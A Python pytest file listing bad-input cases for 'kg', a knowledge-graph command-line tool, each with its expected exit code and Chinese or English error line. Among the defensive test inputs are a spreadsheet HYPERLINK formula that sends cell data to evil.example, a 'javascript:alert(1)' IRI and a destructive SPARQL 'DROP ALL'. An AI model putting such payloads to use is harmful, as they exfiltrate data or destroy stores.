"""The bad-input catalogue: every hostile or mistaken input kg has met, and what it must do.

One row per case: the command line, the files it needs, what stdin holds, the
exit code, and the one line it must print.  Every row runs against its own
copy of the built store and checks that the store's content is unchanged, that
stderr holds no traceback, and (for kg's own errors) exactly one line.

To add a case: append a :class:`Case` to :data:`CASES`.  ``{store}`` in the
arguments is the store copy, ``{tmp}`` a scratch folder; ``files`` are written
into ``{tmp}`` before the command runs (str as UTF-8, bytes as they are).
"""

from __future__ import annotations

import hashlib
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import CliRunner

from kg.cli import main
from kg.store.embedded import Store

REGISTRY = "https://w3id.org/kg-cityedu/graph/entities"
ONTOLOGY = "https://w3id.org/kg-cityedu/graph/ontology"
GOOD_TTL = "@prefix ex: <http://example.org/> .\nex:a ex:b ex:c .\n"
OWASP_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@dataclass(frozen=True)
class Case:
    """One bad input: ``kg ARGS`` (with ``files`` in {tmp} and ``stdin``) must exit ``code`` printing ``message``."""

    id: str
    args: tuple[str, ...]
    code: int
    message: str  # a regular expression the one stderr line must match
    files: dict[str, str | bytes] = field(default_factory=dict)
    stdin: bytes | None = None
    env: dict[str, str] = field(default_factory=dict)
    setup: Callable[[Path], object] | None = None  # anything files cannot express, run with {tmp}


CASES: list[Case] = [
    # -- kg extract --eval: a gold folder's metadata sidecars
    Case(
        "eval-meta-not-json",
        ("extract", "--eval", "{tmp}/gold"),
        1,
        r"^kg: .*gold/documents/d1\.meta\.json:1：元数据不是合法的 JSON",
        {
            "gold/documents/d1.txt": "某某学院与某某公司签约。\n",
            "gold/documents/d1.meta.json": '{"id": ',
            "gold/curated/entities.yaml": "entities: []\n",
            "gold/curated/d1.yaml": "document: d1\n",
        },
    ),
    Case(
        "eval-meta-wrong-type",
        ("extract", "--eval", "{tmp}/gold"),
        1,
        r"^kg: .*d1\.meta\.json：元数据的 “authors” 类型不对",
        {
            "gold/documents/d1.txt": "某某学院与某某公司签约。\n",
            "gold/documents/d1.meta.json": '{"id": "d1", "authors": "张三"}',
            "gold/curated/entities.yaml": "entities: []\n",
            "gold/curated/d1.yaml": "document: d1\n",
        },
    ),
    # -- kg load: reserved graphs, IRIs, syntax
    Case(
        "load-reserved-registry",
        ("load", "{tmp}/a.ttl", "--graph", REGISTRY, "--store", "{store}"),
        1,
        r"^kg: --graph：<.*/graph/entities> 是人工整理的实体登记表.*--force",
        {"a.ttl": GOOD_TTL},
    ),
    Case(
        "load-reserved-inferred",
        ("load", "{tmp}/a.ttl", "--graph", "https://w3id.org/kg-cityedu/graph/inferred", "--store", "{store}"),
        1,
        r"^kg: --graph：.* 是推理闭包",
        {"a.ttl": GOOD_TTL},
    ),
    Case(
        "load-reserved-document",
        ("load", "{tmp}/a.ttl", "--graph", "https://w3id.org/kg-cityedu/doc/banan-d85cd3f1", "--store", "{store}"),
        1,
        r"^kg: --graph：.* 是来源文档的图",
        {"a.ttl": GOOD_TTL},
    ),
    Case(
        "load-reserved-graph-inside-trig",
        ("load", "{tmp}/a.trig", "--store", "{store}"),
        1,
        r"^kg: .*a\.trig: 图：<.*/graph/ontology> 是本体（由 kg build 维护）；载入会替换它.*--force）$",
        {"a.trig": f"<{ONTOLOGY}> {{ <http://example.org/a> <http://example.org/b> <http://example.org/c> }}\n"},
    ),
    Case(
        "load-javascript-iri",
        ("load", "{tmp}/a.ttl", "--graph", "javascript:alert(1)", "--store", "{store}"),
        1,
        r"^kg: --graph：'javascript:alert\(1\)' 不是 http\(s\):// 或 urn: IRI$",
        {"a.ttl": GOOD_TTL},
    ),
    Case(
        "load-not-an-iri",
        ("load", "{tmp}/a.ttl", "--graph", "not an iri", "--store", "{store}"),
        1,
        r"^kg: --graph：'not an iri' 不是 http",
        {"a.ttl": GOOD_TTL},
    ),
    Case(
        "load-syntax-error",
        ("load", "{tmp}/bad.ttl", "--store", "{store}"),
        1,
        r"^kg: .*bad\.ttl:2:\d+: ",
        {"bad.ttl": "@prefix ex: <http://example.org/> .\nex:a ex:b foo:c .\n"},
    ),
    Case(
        "load-unknown-extension",
        ("load", "{tmp}/data.xyz", "--store", "{store}"),
        1,
        r"^kg: .*data\.xyz：无法从文件名判断RDF 格式（.*）；请用 --format 指定$",
        {"data.xyz": GOOD_TTL},
    ),
    # -- kg query
    Case(
        "query-update-drop-all",
        ("query", "DROP ALL", "--store", "{store}"),
        1,
        r"^kg: DROP ALL 是 SPARQL 更新，不是查询：kg query 只读；请用 kg load",
    ),
    Case(
        "query-update-insert",
        ("query", "PREFIX ex: <http://x/> INSERT DATA { ex:a ex:b ex:c }", "--store", "{store}"),
        1,
        r"^kg: INSERT DATA 是 SPARQL 更新，不是查询",
    ),
    Case(
        "query-binary-stdin",
        ("query", "-", "--store", "{store}"),
        1,
        r"^kg: stdin：不是 UTF-8 文本（第 \d+ 字节）",
        stdin=b'SELECT * WHERE { ?s ?p "\xff\xfe\x00\x01" }',
    ),
    Case(
        "query-syntax-error",
        ("query", "SELECT WHERE {", "--store", "{store}"),
        2,
        r"^kg: 查询语法错误：第 \d+ 行第 \d+ 列：",
    ),
    Case(
        "query-service",
        ("query", "SELECT * WHERE { SERVICE <http://x/> { ?s ?p ?o } }", "--store", "{store}"),
        1,
        r"^kg: SERVICE 被拒绝：kg 从不访问网络$",
    ),
    Case(
        "query-unknown-name",
        ("query", "no-such-query", "--store", "{store}"),
        1,
        r"^kg: 没有名为 \'no-such-query\' 的内置查询或查询文件；kg query --list 列出内置查询$",
    ),
    Case(
        "query-out-missing-folder",
        ("query", "school-company-pairs", "--out", "{tmp}/missing/r.tsv", "--store", "{store}"),
        1,
        r"^kg: --out .*missing/r\.tsv：文件夹 .*missing 不存在$",
    ),
    # -- outputs: one rule for missing folders, checked before any work
    Case(
        "export-file-missing-folder",
        ("export", "--format", "turtle", "--out", "{tmp}/missing/kg.ttl", "--store", "{store}"),
        1,
        r"^kg: --out .*missing/kg\.ttl：文件夹 .*missing 不存在$",
    ),
    Case(
        "export-csv-missing-folder",
        ("export", "--format", "csv", "--out", "{tmp}/missing/tables", "--store", "{store}"),
        1,
        r"^kg: --out .*missing/tables：文件夹 .*missing 不存在$",
    ),
    Case(
        "export-csv-out-is-a-file",
        ("export", "--format", "csv", "--out", "{tmp}/a.ttl", "--store", "{store}"),
        1,
        r"^kg: --out .*a\.ttl：此格式写出一个文件夹，而这是一个文件$",
        {"a.ttl": GOOD_TTL},
    ),
    Case(
        "export-unknown-class",
        ("export", "--format", "gexf", "--class", "Spaceship", "--store", "{store}"),
        1,
        r"^kg: .*Spaceship",
    ),
    Case(
        "extract-out-missing-folder",
        ("extract", "{tmp}/a.txt", "--out", "{tmp}/missing/out.ttl"),
        1,
        r"^kg: --out .*missing/out\.ttl：文件夹 .*missing 不存在$",
        {"a.txt": "巴南区教委与重庆理工大学签订合作协议。"},
    ),
    Case(
        "analyze-out-missing-folder",
        ("analyze", "--out", "{tmp}/missing/report.md", "--store", "{store}"),
        1,
        r"^kg: --out .*missing/report\.md：文件夹 .*missing 不存在$",
    ),
    Case(
        "viz-out-missing-folder",
        ("viz", "--out", "{tmp}/missing/g.html", "--store", "{store}"),
        1,
        r"^kg: --out .*missing/g\.html：文件夹 .*missing 不存在$",
    ),
    Case(
        "ontology-doc-missing-folder",
        ("ontology", "--doc", "{tmp}/missing/o.html"),
        1,
        r"^kg: --doc .*missing/o\.html：文件夹 .*missing 不存在$",
    ),
    Case(
        "clean-out-missing-folder",
        ("clean", "{tmp}/a.txt", "--out", "{tmp}/missing/deeper"),
        1,
        r"^kg: --out .*missing/deeper：文件夹 .*missing 不存在$",
        {"a.txt": "巴南区教委与重庆理工大学签订合作协议。"},
    ),
    # -- kg ingest
    Case(
        "ingest-binary-file",
        ("ingest", "{tmp}/a.bin", "--store", "{store}"),
        1,
        r"^kg: .*a\.bin：二进制文件，不是文本",
        {"a.bin": bytes(range(256)) * 4},
    ),
    Case(
        "ingest-binary-file-among-good-ones",
        ("ingest", "{tmp}/good.txt", "{tmp}/a.bin", "--store", "{store}"),
        1,
        r"^kg: .*a\.bin：二进制文件，不是文本",
        {"good.txt": "巴南区教委与重庆理工大学签订合作协议。", "a.bin": b"\x00\x01\x02PK\x03\x04" * 100},
    ),
    Case("ingest-no-files", ("ingest", "--store", "{store}"), 2, r"^kg: 缺少 FILE… 或 DIR（见 kg ingest --help）$"),
    Case(
        "ingest-over-max-bytes",
        ("ingest", "{tmp}/a.txt", "--max-bytes", "100", "--store", "{store}"),
        1,
        r"^kg: .*a\.txt：[\d,]+ 字节，超过上限 100；如仍要读取，请加 --max-bytes \d+$",
        {"a.txt": "巴南区教委与重庆理工大学签订合作协议。" * 10},
    ),
    Case(
        "extract-over-max-bytes",
        ("extract", "{tmp}/a.txt", "--max-bytes", "100", "--out", "{tmp}/a.ttl"),
        1,
        r"^kg: .*a\.txt：[\d,]+ 字节，超过上限 100；如仍要读取，请加 --max-bytes \d+$",
        {"a.txt": "巴南区教委与重庆理工大学签订合作协议。" * 10},
    ),
    Case(
        "ingest-max-bytes-zero",
        ("ingest", "{tmp}/a.txt", "--max-bytes", "0"),
        2,
        r"^kg: '--max-bytes' 的值无效：.*（见 kg ingest --help）$",
        {"a.txt": "巴南区教委与重庆理工大学签订合作协议。"},
    ),
    Case(  # a text of several blocks (written part by part) is checked with the others before the store is touched
        "ingest-long-text-beside-a-binary-file",
        ("ingest", "{tmp}/long.txt", "{tmp}/a.bin", "--store", "{store}"),
        1,
        r"^kg: .*a\.bin：二进制文件，不是文本",
        {"long.txt": "巴南区教委与重庆理工大学签订合作协议。\n" * 3000, "a.bin": b"\x00\x01\x02PK\x03\x04" * 100},
    ),
    # -- the store folder
    Case(
        "store-is-an-ordinary-folder",
        ("ingest", "{tmp}/good.txt"),
        1,
        r"^kg: .*/mine 是含有其他文件的文件夹，不是存储：请给 --store（或 KG_STORE）一个空的或新的文件夹",
        {"good.txt": "巴南区教委与重庆理工大学签订合作协议。", "mine/notes.txt": "my own notes"},
        env={"KG_STORE": "{tmp}/mine"},
    ),
    Case(
        "store-is-a-file",
        ("build", "--store", "{tmp}/a.ttl"),
        2,
        r"^kg: '--store' 的值无效：'.*a\.ttl' 是文件，不是文件夹。（见 kg build --help）$",
        {"a.ttl": GOOD_TTL},
    ),
    Case("stats-no-store", ("stats", "--store", "{tmp}/none"), 1, r"^kg: .*none 处没有存储：请先运行 kg build"),
    Case(
        "validate-empty-folder",
        ("validate", "--store", "{tmp}/empty"),
        1,
        r"^kg: .*empty 处没有存储：请先运行 kg build",
    ),
    Case(
        "validate-empty-store",
        ("validate", "--store", "{tmp}/empty"),
        1,
        r"^kg: 存储 .*empty 是空的（从未构建，或首次构建被中断）：请运行 kg build$",
        setup=lambda tmp: Store(tmp / "empty").close(),  # what a first build killed before its commit leaves
    ),
    # -- options
    Case("remote-timeout-not-a-number", ("stats", "--timeout", "soon"), 2, r"--timeout"),
    Case(
        "remote-bad-timeout-env",
        ("stats", "--endpoint", "http://127.0.0.1:9/query"),
        2,
        r"KG_TIMEOUT|--timeout",
        env={"KG_TIMEOUT": "never"},
    ),
    Case(
        "endpoint-not-http",
        ("stats", "--endpoint", "ftp://example.org/"),
        1,
        r"^kg: --endpoint：'ftp://.*' 不是 http\(s\) 网址$",
    ),
    Case(
        "endpoint-and-store",
        ("stats", "--endpoint", "http://127.0.0.1:9/query", "--store", "{store}"),
        1,
        r"^kg: 请给出存储路径或端点，不能同时给（--store 或 --endpoint）$",
    ),
    Case(
        "viz-hops-without-focus",
        ("viz", "--out", "{tmp}/g.html", "--hops", "2", "--store", "{store}"),
        2,
        r"^kg: --hops 需要与 --focus 名称一起使用（见 kg viz --help）$",
    ),
    Case(
        "analyze-compare-one",
        ("analyze", "--compare", "巴南区", "--store", "{store}"),
        2,
        r"^kg: --compare 需要两个或更多区县",
    ),
    # -- click's own usage errors: one line too, in the chosen language
    Case("unknown-option", ("stats", "--bogus"), 2, r"^kg: 没有选项 '--bogus'。（见 kg stats --help）$"),
    Case("unknown-command", ("statz",), 2, r"^kg: 没有命令 'statz'。是否要找 'stats'？（见 kg --help）$"),
    Case(
        "unknown-command-in-english",
        ("--lang", "en", "statz"),
        2,
        r"^kg: No such command 'statz'\. Did you mean 'stats'\? \(see kg --help\)$",
    ),
    Case(
        "format-not-a-choice",
        ("export", "--format", "pdf", "--store", "{store}"),
        2,
        r"^kg: '--format' 的值无效：'pdf' 不是可选值之一：'turtle', .*。（见 kg export --help）$",
    ),
    Case(
        "option-without-its-value",
        ("query", "--format"),
        2,
        r"^kg: 选项 '--format' 需要一个值。（见 kg query --help）$",
    ),
    # -- messages of every layer are Chinese by default, English with --lang (anywhere on the line) or KG_LANG
    Case(
        "load-graph-for-two-files",
        ("load", "{tmp}/a.ttl", "{tmp}/b.ttl", "--graph", "http://example.org/g", "--store", "{store}"),
        1,
        r"^kg: --graph 只能为一个文件命名图：请只给一个文件，或去掉 --graph$",
        {"a.ttl": GOOD_TTL, "b.ttl": GOOD_TTL},
    ),
    Case(
        "load-graph-for-two-files-in-english",
        ("load", "{tmp}/a.ttl", "{tmp}/b.ttl", "--graph", "http://example.org/g", "--store", "{store}", "--lang", "en"),
        1,
        r"^kg: --graph names the graph of one file; give one file or leave --graph out$",
        {"a.ttl": GOOD_TTL, "b.ttl": GOOD_TTL},
    ),
    Case(
        "store-path-is-a-file",
        ("ingest", "{tmp}/good.txt"),
        1,
        r"^kg: .*a\.ttl 是文件，不是存储：请给 --store（或 KG_STORE）一个文件夹$",
        {"a.ttl": GOOD_TTL, "good.txt": "巴南区教委与重庆理工大学签订合作协议。"},
        env={"KG_STORE": "{tmp}/a.ttl"},
    ),
    Case(
        "store-path-is-a-file-in-english",
        ("ingest", "{tmp}/good.txt"),
        1,
        r"^kg: .*a\.ttl is a file, not a store: give a folder to --store \(or KG_STORE\)$",
        {"a.ttl": GOOD_TTL, "good.txt": "巴南区教委与重庆理工大学签订合作协议。"},
        env={"KG_STORE": "{tmp}/a.ttl", "KG_LANG": "en"},
    ),
    Case("docs-remove-unknown", ("docs", "remove", "no-such-doc"), 1, r"^kg: 存储中没有文档 'no-such-doc'（已有文档："),
    Case(
        "docs-remove-curated",
        ("docs", "remove", "banan-d85cd3f1"),
        1,
        r"^kg: banan-d85cd3f1 是人工整理的文档：请删除 data/curated/banan-d85cd3f1\.yaml 及其正文，再运行 kg build$",
    ),
    Case(
        "unmerge-not-merged",
        ("entities", "unmerge", "巴南区", "大足区"),
        1,
        r"^kg: 巴南区 与 大足区 没有合并（kg entities merges 列出所有合并）$",
    ),
    Case(
        "lang-not-a-language",
        ("stats", "--lang", "fr"),
        2,
        r"^kg: '--lang' 的值无效：'fr' 不是可选值之一：'zh', 'en'。（见 kg stats --help）$",
    ),
    Case("path-missing-argument", ("path",), 2, r"^kg: 缺少参数 'SOURCE'。（见 kg path --help）$"),
    Case("path-unknown-entity", ("path", "没有这个机构", "巴南区", "--store", "{store}"), 1, r"^kg: .*没有这个机构"),
]


def store_digest(path: Path) -> str:
    """A hash of the store's content (every quad), independent of RocksDB's files."""
    if not path.exists():
        return "absent"
    digest = hashlib.sha256()
    with Store(path, read_only=True) as store:
        for line in sorted(str(quad) for quad in store.quads()):
            digest.update(line.encode("utf-8") + b"\n")
    return digest.hexdigest()


def run_case(case: Case, store: Path, tmp: Path):
    for name, content in case.files.items():
        target = tmp / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content, encoding="utf-8")
    if case.setup is not None:
        case.setup(tmp)

    def fill(text: str) -> str:  # not str.format: SPARQL has braces of its own
        return text.replace("{store}", str(store)).replace("{tmp}", str(tmp))

    args = [fill(arg) for arg in case.args]
    env = {"KG_STORE": str(store), "KG_ENDPOINT": "", "KG_TIMEOUT": "", **case.env}
    env = {name: fill(value) for name, value in env.items()}
    return CliRunner().invoke(main, args, input=case.stdin, env=env)


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_bad_input(case: Case, store_path: Path, tmp_path: Path):
    store = tmp_path / "store"
    shutil.copytree(store_path, store)
    (tmp_path / "empty").mkdir(exist_ok=True)
    before = store_digest(store)
    result = run_case(case, store, tmp_path)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.stderr and "Traceback" not in result.stdout
    lines = result.stderr.strip().splitlines()
    assert lines, f"nothing on stderr; stdout: {result.stdout[:300]}"
    assert len(lines) == 1, result.stderr
    assert re.search(case.message, lines[-1]), lines[-1]
    assert result.exit_code == case.code, result.stderr
    assert store_digest(store) == before, "the store changed"
    assert not list(tmp_path.rglob("*.part")), "a .part file was left behind"


def test_the_catalogue_names_each_case_once():
    assert len({case.id for case in CASES}) == len(CASES)
